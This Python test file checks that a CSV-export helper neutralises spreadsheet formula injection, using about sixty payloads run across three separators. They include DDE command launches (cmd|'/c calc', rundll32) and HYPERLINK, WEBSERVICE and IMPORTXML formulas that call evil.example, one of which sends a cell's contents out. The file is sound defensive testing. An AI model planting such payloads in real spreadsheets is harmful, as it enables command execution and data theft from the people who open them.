"""Cells of tables: what a spreadsheet could take for a formula is shown as text, wherever the reader's separator cuts."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from publishing.tables import TRIGGERS, cell, csv_bytes

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-cmd|'/c calc'!A0",
    "@cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    '=IMAGE("https://evil.example")',
    '=DDE("cmd";"/c calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|'/C calc'!A0",
    '=1+1","=2+2',
    "==1+1",
    "+=1+1",
    "-=1+1",
    "@=1+1",
    "=-1",
    "--1",
    "++1",
    "=\t1",
    "=\n1",
]
BEFORE = ["\t", "\r", "\n", "\r\n", " ", "  ", '"', "'", "`", '" ', "\x00", "\x1f", "\x7f", "\x0b"]
BEFORE += ["\u00a0", "\u3000", "\ufeff", "\u200b", "\u200e", "\u202f", "\u2060"]
FULL_WIDTH = ["＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫A1", "−1+1"]
BEHIND_A_SEPARATOR = ["harmless;=1+1", "harmless; =1+1", "harmless\t=1+1", "harmless\n@SUM(1)", "harmless\r\n+1", 'a;"=1+1']
BEHIND_A_SEPARATOR += ["a;b;-cmd|' /C calc'!A0"]
PAYLOADS = [*FORMULAS, *[before + "=1+1" for before in BEFORE], *FULL_WIDTH, *BEHIND_A_SEPARATOR]
STARTERS = tuple("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−")
SKIPPED_BY_SPREADSHEETS = ' "`\u00a0\u3000\ufeff\u200b\u200e\u202f\u2060'


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_payload_begins_a_cell_whichever_separator_the_reader_uses(payload: str, separator: str) -> None:
    content = csv_bytes(["Company", "Note"], [["Muster GmbH", payload], [payload, "Muster GmbH"]]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
        for value in row:
            assert not value.lstrip(SKIPPED_BY_SPREADSHEETS).startswith(STARTERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_readable_behind_an_apostrophe(payload: str) -> None:
    def words(text: str) -> str:
        return "".join(character for character in text if character.isprintable() and character != "'")

    assert words(cell(payload)) == words(payload)
    assert cell(payload).count("'") > payload.count("'")


HARMLESS = ["", "Muster GmbH & Co. KG", "Art. 32 Abs. 1 DSGVO", "a = b", "1+1", "E-Mail", "x@example.com", "Straße; Ort", "„Zitat“"]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_control_characters_are_left_out() -> None:
    assert cell("a\x00b\x1bc\x7f") == "abc"


@given(st.text(max_size=50))
def test_no_text_at_all_begins_with_a_trigger(text: str) -> None:
    assert not cell(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def test_the_triggers_are_those_of_owasp_and_their_wide_forms() -> None:
    assert set("=+-@＝＋－＠") <= set(TRIGGERS)


def test_the_file_is_utf_8_with_a_mark_quotes_every_cell_and_ends_lines_as_rfc_4180_says() -> None:
    assert csv_bytes(["Ä", "B"], [['say "x"', "1,5"]]) == '\ufeff"Ä","B"\r\n"say ""x""","1,5"\r\n'.encode()
